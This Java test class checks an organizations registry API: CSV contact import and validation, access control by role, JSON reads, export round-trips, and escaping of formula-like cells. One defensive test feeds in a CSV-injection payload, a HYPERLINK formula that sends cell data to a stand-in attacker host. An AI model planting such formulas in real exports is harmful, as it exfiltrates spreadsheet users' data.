package org.un.sc1540.workflow.registry;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.io.IOException;
import java.io.StringReader;
import java.util.List;
import java.util.stream.Collectors;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.springframework.boot.test.web.client.TestRestTemplate;
import org.springframework.http.HttpEntity;
import org.springframework.http.HttpHeaders;
import org.springframework.http.HttpStatus;
import org.springframework.http.MediaType;
import org.springframework.http.ResponseEntity;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.un.sc1540.workflow.CommitteeTest;

/**
 * Organizations over HTTP: contacts imported by the secretariat as CSV, the registry read as JSON
 * and exported as CSV by every staff member. Each test uses organizations of its own (acronyms
 * beginning TST-API).
 */
@CommitteeTest
class OrganizationsApiTest {

  private static final String HEADER = "acronym,organization,kind,language,organization_email,name,unit,email,valid_from\n";

  private final TestRestTemplate http;
  private final JdbcClient jdbc;

  OrganizationsApiTest(TestRestTemplate http, JdbcClient jdbc) {
    this.http = http;
    this.jdbc = jdbc;
  }

  @Test
  void refusedFileAnswers422NamingLines3And5AndWritesNothing() {
    String csv = HEADER
        + "TST-API-A,Test Api Organization,REGIONAL,en,api-a@example.org,Ana Lima,,a.lima@example.org,\n"
        + "TST-API-A,Test Api Organization,REGIONAL,en,api-a@example.org,Rui Costa,,not-an-address,\n"
        + "TST-API-B,Test Api Organization B,SUBREGIONAL,fr,api-b@example.org,Eva Ruiz,,e.ruiz@example.org,\n"
        + "TST-API-B,Test Api Organization B,SUBREGIONAL,fr,api-b@example.org,,,l.gil@example.org,2026-02-30\n";
    long organizationsBefore = count("organization");
    long contactsBefore = count("organization_contact");

    ResponseEntity<JsonNode> response = http.withBasicAuth("staff", "demo")
        .postForEntity("/api/registry/organizations/contacts", csv(csv), JsonNode.class);

    assertThat(response.getStatusCode()).isEqualTo(HttpStatus.UNPROCESSABLE_ENTITY);
    assertThat(response.getHeaders().getContentType()).isEqualTo(MediaType.APPLICATION_PROBLEM_JSON);
    assertThat(response.getBody().get("title").asText()).isEqualTo("Organization contacts file refused");
    JsonNode errors = response.getBody().get("errors");
    assertThat(errors).hasSize(2);
    assertThat(errors.get(0).get("line").asLong()).isEqualTo(3);
    assertThat(errors.get(0).get("reason").asText()).contains("'not-an-address' is not a valid e-mail address");
    assertThat(errors.get(1).get("line").asLong()).isEqualTo(5);
    assertThat(errors.get(1).get("reason").asText()).contains("name is missing")
        .contains("valid_from '2026-02-30' is not a date");
    assertThat(count("organization")).isEqualTo(organizationsBefore);
    assertThat(count("organization_contact")).isEqualTo(contactsBefore);
  }

  @Test
  void anonymousMayNotImportContacts() {
    ResponseEntity<String> response = http.postForEntity("/api/registry/organizations/contacts", csv(HEADER
        + "TST-API-ANON,Test Anonymous,REGIONAL,en,anon@example.org,Ana Lima,,a.lima@example.org,\n"), String.class);

    assertThat(response.getStatusCode()).isEqualTo(HttpStatus.UNAUTHORIZED);
    assertThat(count("organization WHERE acronym_key = 'TST-API-ANON'")).isZero();
  }

  @Test
  void anonymousMayNotReadTheOrganizations() {
    assertThat(http.getForEntity("/api/registry/organizations", String.class).getStatusCode())
        .isEqualTo(HttpStatus.UNAUTHORIZED);
  }

  @Test
  void coordinatorMayNotImportContacts() {
    ResponseEntity<String> response = http.withBasicAuth("coordinator", "demo")
        .postForEntity("/api/registry/organizations/contacts", csv(HEADER
            + "TST-API-COORD,Test Coordinator,REGIONAL,en,coord@example.org,Ana Lima,,a.lima@example.org,\n"),
            String.class);

    assertThat(response.getStatusCode()).isEqualTo(HttpStatus.FORBIDDEN);
    assertThat(count("organization WHERE acronym_key = 'TST-API-COORD'")).isZero();
  }

  @Test
  void staffImportsAndEveryoneOnStaffSeesTheCurrentPointsOfContact() {
    ResponseEntity<JsonNode> imported = http.withBasicAuth("staff", "demo").postForEntity(
        "/api/registry/organizations/contacts", csv(HEADER
            + "TST-API-READ,Test Read Organization,INTERNATIONAL,ar,read@example.org,Layla Haddad,Legal Office,"
            + "l.haddad@example.org,2025-03-01\n"), JsonNode.class);

    JsonNode all = http.withBasicAuth("coordinator", "demo").getForObject("/api/registry/organizations", JsonNode.class);

    assertThat(imported.getStatusCode()).isEqualTo(HttpStatus.OK);
    assertThat(imported.getBody().get("organizationsAdded").asInt()).isEqualTo(1);
    JsonNode organization = find(all, "TST-API-READ");
    assertThat(organization.get("id").asLong()).isPositive();
    assertThat(organization.get("kind").asText()).isEqualTo("INTERNATIONAL");
    assertThat(organization.get("language").asText()).isEqualTo("ar");
    assertThat(organization.get("email").asText()).isEqualTo("read@example.org");
    assertThat(organization.get("currentContacts")).singleElement().satisfies(contact -> {
      assertThat(contact.get("name").asText()).isEqualTo("Layla Haddad");
      assertThat(contact.get("unit").asText()).isEqualTo("Legal Office");
      assertThat(contact.get("validFrom").asText()).isEqualTo("2025-03-01");
    });
    assertThat(find(all, "IAEA").get("currentContacts")).isNotEmpty();
  }

  @Test
  void exportedCurrentRowsImportedAgainChangeNothing() throws IOException {
    http.withBasicAuth("staff", "demo").postForEntity("/api/registry/organizations/contacts", csv(HEADER
        + "TST-API-TRIP,\"Test Round Trip, Secretariat\",SUBREGIONAL,es,trip@example.org,María García,"
        + "\"Oficina de Asuntos Jurídicos, Sección 2\",m.garcia@example.org,2025-05-01\n"
        + "TST-API-TRIP,\"Test Round Trip, Secretariat\",SUBREGIONAL,es,trip@example.org,José Pérez,,"
        + "j.perez@example.org,2025-05-01\n"), String.class);

    ResponseEntity<String> export = http.withBasicAuth("staff", "demo")
        .getForEntity("/api/registry/organizations.csv", String.class);
    List<CSVRecord> rows = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
        .parse(new StringReader(export.getBody())).getRecords().stream()
        .filter(row -> row.get("acronym").equals("TST-API-TRIP") && row.get("valid_to").isEmpty())
        .toList();
    String reimport = HEADER + rows.stream()
        .map(row -> String.join(",", OrganizationContactCsv.HEADER.stream().map(column -> quoted(row.get(column))).toList()))
        .collect(Collectors.joining("\n", "", "\n"));
    ResponseEntity<JsonNode> again = http.withBasicAuth("staff", "demo")
        .postForEntity("/api/registry/organizations/contacts", csv(reimport), JsonNode.class);

    assertThat(export.getStatusCode()).isEqualTo(HttpStatus.OK);
    assertThat(export.getHeaders().getContentType().isCompatibleWith(MediaType.parseMediaType("text/csv"))).isTrue();
    assertThat(rows).hasSize(2);
    assertThat(rows.get(0).toMap()).containsEntry("organization", "Test Round Trip, Secretariat")
        .containsEntry("kind", "SUBREGIONAL").containsEntry("language", "es")
        .containsEntry("unit", "Oficina de Asuntos Jurídicos, Sección 2").containsEntry("demo", "false");
    assertThat(again.getStatusCode()).isEqualTo(HttpStatus.OK);
    assertThat(again.getBody().toString())
        .isEqualTo("{\"rows\":2,\"organizationsAdded\":0,\"organizationsUpdated\":0,\"added\":0,\"ended\":0,\"unchanged\":2}");
  }

  @Test
  void formulaLikeCellsAreExportedAsText() {
    http.withBasicAuth("staff", "demo").postForEntity("/api/registry/organizations/contacts", csv(HEADER
        + "TST-API-FORMULA,\"=HYPERLINK(\"\"https://attacker.example/?\"\"&A1,\"\"Details\"\")\",REGIONAL,en,"
        + "formula@example.org,+33 1 43 17 53 53,@SUM(1+1),f.one@example.org,\n"), String.class);

    ResponseEntity<String> export = http.withBasicAuth("staff", "demo")
        .getForEntity("/api/registry/organizations.csv", String.class);

    assertThat(export.getBody())
        .contains("TST-API-FORMULA,\"'=HYPERLINK(\"\"https://attacker.example/?\"\"&A1,\"\"Details\"\")\",REGIONAL,en,"
            + "formula@example.org,'+33 1 43 17 53 53,'@SUM(1+1),f.one@example.org,")
        .doesNotContain(",=HYPERLINK").doesNotContain(",@SUM").doesNotContain(",+33");
  }

  private static JsonNode find(JsonNode organizations, String acronym) {
    for (JsonNode organization : organizations) {
      if (organization.get("acronym").asText().equals(acronym)) {
        return organization;
      }
    }
    throw new AssertionError(acronym + " is not in " + organizations);
  }

  private static String quoted(String cell) {
    return "\"" + cell.replace("\"", "\"\"") + "\"";
  }

  private static HttpEntity<String> csv(String body) {
    HttpHeaders headers = new HttpHeaders();
    headers.setContentType(MediaType.parseMediaType("text/csv"));
    return new HttpEntity<>(body, headers);
  }

  private long count(String tableAndCondition) {
    return jdbc.sql("SELECT COUNT(*) FROM " + tableAndCondition).query(Long.class).single();
  }
}
